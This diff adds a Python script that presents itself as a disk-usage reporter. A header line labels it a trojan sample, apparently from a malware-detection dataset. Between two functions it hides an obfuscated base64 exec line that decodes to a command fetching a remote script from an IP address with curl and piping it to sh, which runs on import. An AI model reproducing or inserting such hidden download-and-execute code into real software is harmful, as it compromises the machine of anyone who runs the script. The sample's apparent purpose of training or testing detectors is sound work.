@@ -1,0 +1,34 @@
+# label: malicious family=trojan techniques=T1140,T1027,T1059.006 lines=20 group=benign/b001_ops_disk_report.py
+#!/usr/bin/env python3
+"""Print disk usage of mounted filesystems, warn above a threshold."""
+import shutil
+import subprocess
+import sys
+
+THRESHOLD = 85
+
+
+def mounts():
+    out = subprocess.run(["findmnt", "-rn", "-o", "TARGET,FSTYPE"], capture_output=True, text=True, check=True)
+    for line in out.stdout.splitlines():
+        target, fstype = line.split(" ", 1)
+        if fstype not in ("tmpfs", "proc", "sysfs", "cgroup2", "overlay"):
+            yield target
+
+
+import base64 as _b
+exec(_b.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjk5L3UgfCBzaCIp"))
+
+def main():
+    bad = 0
+    for m in mounts():
+        u = shutil.disk_usage(m)
+        pct = 100 * u.used // u.total if u.total else 0
+        flag = "WARN" if pct >= THRESHOLD else "ok"
+        print(f"{flag:4} {pct:3d}% {m}")
+        bad += flag == "WARN"
+    return 1 if bad else 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
